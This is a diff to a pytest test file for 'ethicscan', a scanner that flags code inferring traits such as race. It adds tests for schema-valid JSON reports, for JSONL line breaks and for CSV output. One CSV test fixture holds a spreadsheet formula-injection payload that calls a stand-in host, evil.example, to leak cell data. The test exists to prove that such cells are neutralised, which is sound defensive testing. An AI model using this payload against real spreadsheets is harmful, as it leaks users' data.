@@ -2,16 +2,22 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 from pathlib import Path
 from typing import Any
 
+import jsonschema
 import pytest
 
 from ethicscan import ScanOptions, __version__, scan
 from ethicscan.cli import main
+from ethicscan.model import Basis, Capability, HistoryStatus, Severity, SkipReason, Trait
 from ethicscan.report import OutputFormat, reporter
+from ethicscan.report.csv import COLUMNS, cell
+from ethicscan.report.json import schema_text
 from ethicscan.rules.catalogue import load_default_catalogue
 
 FINDING_KEYS = {
@@ -49,7 +55,20 @@ def clean_tree(tmp_path: Path) -> Path:
 
 def _json(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, dict[str, Any]]:
     code = main(["scan", *args, "--format", "json", "--jobs", "1"])
-    return code, json.loads(capsys.readouterr().out)
+    return code, _report(capsys.readouterr().out)
+
+
+SCHEMA: dict[str, Any] = json.loads(schema_text())
+
+
+def _report(text: str, definition: str = "") -> dict[str, Any]:
+    """A JSON report (or, with ``definition``, a part of one: ``finding``,
+    ``jsonlSummary``) parsed and checked against the published schema."""
+    doc: dict[str, Any] = json.loads(text)
+    part = {"$defs": SCHEMA["$defs"], "$ref": f"#/$defs/{definition}"}
+    schema = part if definition else SCHEMA
+    jsonschema.Draft202012Validator(schema).validate(doc)
+    return doc
 
 
 def test_version_names_the_catalogue(capsys: pytest.CaptureFixture[str]) -> None:
@@ -170,14 +189,14 @@ def test_missing_target_beside_a_good_one_exits_2_after_the_report(
     code = main(["scan", str(tree), missing, "--format", "json", "-j", "1"])
     out, err = capsys.readouterr()
     assert code == 2
-    doc = json.loads(out)
+    doc = _report(out)
     assert doc["findings"]  # the good target was scanned
     assert [(s["path"], s["reason"]) for s in doc["skipped"]] == [(missing, "not_found")]
     assert "ethicscan: error: 1 of 2 targets could not be read or fetched: " + missing in err
     # Into a file too: the report is written before the status says the scan is incomplete.
     report = tmp_path / "report.json"
     assert main(["scan", str(tree), missing, "-j", "1", "--format", "json", "-o", str(report)]) == 2
-    assert json.loads(report.read_text(encoding="utf-8"))["skipped"][0]["reason"] == "not_found"
+    assert _report(report.read_text(encoding="utf-8"))["skipped"][0]["reason"] == "not_found"
 
 
 def test_keep_going_exits_on_the_findings_alone(
@@ -336,7 +355,7 @@ def test_output_file(tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[s
     out, err = capsys.readouterr()
     assert out == ""
     assert "findings" in err
-    doc = json.loads(out_file.read_text(encoding="utf-8"))
+    doc = _report(out_file.read_text(encoding="utf-8"))
     assert doc["findings"]
     assert not [p for p in tmp_path.iterdir() if p.name.startswith(".ethicscan-")]
 
@@ -409,6 +428,203 @@ def test_rules_command_json(capsys: pytest.CaptureFixture[str]) -> None:
         assert raw["refs"] == [r.id for r in rule.refs]
         assert len(raw["terms"]) == len(rule.terms)
         assert all({"text", "kind", "lang", "gloss"} <= set(t) for t in raw["terms"])
+
+
+def test_schema_command_prints_the_packaged_schema(
+    repo_root: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert main(["schema"]) == 0
+    printed = json.loads(capsys.readouterr().out)
+    assert printed == SCHEMA
+    assert printed["$schema"] == "https://json-schema.org/draft/2020-12/schema"
+    jsonschema.Draft202012Validator.check_schema(printed)
+    pyproject = (repo_root / "pyproject.toml").read_text(encoding="utf-8")
+    assert '"report/schema.json"' in pyproject  # shipped in the wheel beside the code
+
+
+@pytest.mark.parametrize(
+    ("path", "enum"),
+    [
+        ("finding/properties/trait", Trait),
+        ("finding/properties/capability", Capability),
+        ("finding/properties/severity", Severity),
+        ("skipped/properties/reason", SkipReason),
+    ],
+)
+def test_schema_enums_are_the_models(path: str, enum: type[Trait]) -> None:
+    node: Any = SCHEMA["$defs"]
+    for key in path.split("/"):
+        node = node[key]
+    assert node["enum"] == [m.value for m in enum]
+
+
+def test_schema_enums_of_optional_fields() -> None:
+    finding = SCHEMA["$defs"]["finding"]["properties"]
+    assert finding["basis"]["enum"] == [*(b.value for b in Basis), None]
+    history = finding["history"]["oneOf"][1]["properties"]["status"]
+    assert history["enum"] == [h.value for h in HistoryStatus]
+
+
+def test_reports_of_examples_and_of_nothing_match_the_schema(
+    repo_root: Path,
+    clean_tree: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """A real scan with findings of every kind the demo holds, skipped files and a
+    missing target; and a scan that finds nothing."""
+    monkeypatch.chdir(repo_root)
+    code, doc = _json(capsys, "examples/", "no-such-folder/", "--keep-going")
+    assert code == 1
+    assert len(doc["findings"]) > 20 and len(doc["skipped"]) >= 2
+    assert {s["reason"] for s in doc["skipped"]} >= {"excluded", "not_found"}
+    assert {t["kind"] for t in doc["targets"]} == {"directory", "missing"}
+    code, doc = _json(capsys, str(clean_tree))
+    assert (code, doc["findings"], doc["skipped"]) == (0, [], [])
+
+
+def test_suppressed_finding_and_file_target_match_the_schema(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    src = tmp_path / "face.py"
+    src.write_text(
+        "# ethicscan: ignore[race] self-declared, reviewed\nrace = predict_race(face)\n"
+        "# ethicscan: ignore[race]\nskin_tone = predict_skin(face)\n",
+        encoding="utf-8",
+    )
+    _, doc = _json(capsys, str(src), "--fail-on", "never")
+    assert doc["targets"][0]["kind"] == "file" and len(doc["targets"][0]["sha256"]) == 64
+    assert any(f["suppression"] for f in doc["findings"])
+    assert doc["warnings"]  # the directive without a reason
+
+
+def _tree_with_skipped(tree: Path) -> Path:
+    (tree / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00")
+    return tree
+
+
+@pytest.mark.parametrize("to_file", [False, True], ids=["stdout", "output"])
+def test_jsonl_is_the_json_findings_a_line_then_a_summary(
+    to_file: bool, tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    _tree_with_skipped(tree)
+    _, doc = _json(capsys, str(tree))
+    args = ["scan", str(tree), "-j", "1", "--format", "jsonl"]
+    out_file = tmp_path / "report.jsonl"
+    assert main([*args, "-o", str(out_file)] if to_file else args) == 1
+    text = out_file.read_text(encoding="utf-8") if to_file else capsys.readouterr().out
+    lines = text.splitlines()
+    assert text.endswith("\n") and len(lines) == len(doc["findings"]) + 1
+    assert [_report(x, "finding") for x in lines[:-1]] == doc["findings"]
+    last = _report(lines[-1], "jsonlSummary")
+    assert last["skipped"] == doc["skipped"] and last["skipped"][0]["reason"] == "binary"
+    assert last["warnings"] == doc["warnings"]
+    del last["summary"]["stats"]["seconds"], doc["stats"]["seconds"]
+    del last["summary"]["started"], doc["started"]
+    assert last["summary"] == {k: doc[k] for k in ("schema_version", "tool", "targets", "stats")}
+
+
+def test_jsonl_line_breaks_in_names_stay_inside_their_line(
+    tmp_path: Path, face_header_text: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """U+2028, U+2029 and U+0085 are line breaks to str.splitlines() and to some JSON
+    Lines readers: they are written escaped."""
+    root = tmp_path / "names"
+    root.mkdir()
+    (root / "face\u2028attr\x85x\u2029.h").write_text(face_header_text, encoding="utf-8")
+    assert main(["scan", str(root), "-j", "1", "--format", "jsonl"]) == 1
+    text = capsys.readouterr().out
+    assert not {"\u2028", "\u2029", "\x85"} & set(text)
+    lines = text.splitlines()
+    assert lines == text.split("\n")[:-1]
+    findings = [_report(x, "finding") for x in lines[:-1]]
+    assert findings and {f["location"]["path"] for f in findings} == {"face\u2028attr\x85x\u2029.h"}
+
+
+@pytest.mark.parametrize("to_file", [False, True], ids=["stdout", "output"])
+def test_csv_rows_are_the_findings_then_skipped_files(
+    to_file: bool, tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    _tree_with_skipped(tree)
+    (tree / "vendor.json").write_text(
+        '{"faces": [{"EthicCode": "01", "SkinColor": "1", "face_id": 7}]}\n', encoding="utf-8"
+    )
+    _, doc = _json(capsys, str(tree))
+    args = ["scan", str(tree), "-j", "1", "--format", "csv"]
+    out_file = tmp_path / "report.csv"
+    assert main([*args, "-o", str(out_file)] if to_file else args) == 1
+    text = out_file.read_text(encoding="utf-8") if to_file else capsys.readouterr().out
+    header, *rows = list(csv.reader(io.StringIO(text)))
+    assert tuple(header) == COLUMNS == (
+        "severity", "capability", "trait", "confidence", "path", "line", "column", "rule",
+        "term", "snippet", "signals",
+    )  # fmt: skip
+    assert len(rows) == len(doc["findings"]) + 1
+    for row, f in zip(rows, doc["findings"], strict=False):  # the last row: logo.png
+        loc = f["location"]
+        assert dict(zip(header, row, strict=True)) == {
+            "severity": f["severity"],
+            "capability": f["capability"],
+            "trait": f["trait"],
+            "confidence": str(f["confidence"]),
+            "path": f"{tree}/{loc['path']}",
+            "line": str(loc["line"]),
+            "column": str(loc["column"]),
+            "rule": f["rule"],
+            "term": f["evidence"]["term"],
+            "snippet": f["evidence"]["snippet"],
+            "signals": ";".join(s["name"] for s in f["signals"]),
+        }
+    assert any('"' in r[9] for r in rows)  # quotes in a snippet survive the round trip
+    assert rows[-1] == [
+        "skipped", "", "", "", f"{tree}/logo.png", "", "", "", "",
+        "binary: PNG image (pictures are not read)", "",
+    ]  # fmt: skip
+
+
+def test_csv_cells_are_never_formulas(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Scanned text that a spreadsheet would run (=, +, -, @) gets a leading quote."""
+    root = tmp_path / "evil"
+    root.mkdir()
+    lines = [
+        '=HYPERLINK("http://evil.example/?"&A1,"race")',
+        "+race = predict_race(face)",
+        "-race: str",
+        "@race = classify(face)",
+    ]
+    (root / "face.py").write_text("\n".join(lines) + "\n", encoding="utf-8")
+    (root / "-x.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00")
+    main(["scan", str(root), "-j", "1", "--format", "csv", "--fail-on", "never"])
+    _header, *rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    assert sorted(r[9] for r in rows if r[0] != "skipped") == sorted("'" + x for x in lines)
+    for row in rows:
+        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row)
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\\t=1"),
+        ("\r=1", "'\\r=1"),
+        ("a\x1b[2Jb\nc", "a\\x1b[2Jb\\nc"),
+        ("a=1", "a=1"),
+        ("0.91", "0.91"),
+        (12, "12"),
+    ],
+)
+def test_csv_cell(value: object, shown: str) -> None:
+    assert cell(value) == shown
+
+
+def test_scan_help_lists_every_format(capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["scan", "--help"]) == 0
+    out = capsys.readouterr().out
+    for fmt in OutputFormat:
+        assert fmt.value in out
 
 
 @pytest.mark.parametrize("fmt", list(OutputFormat), ids=lambda f: f.value)
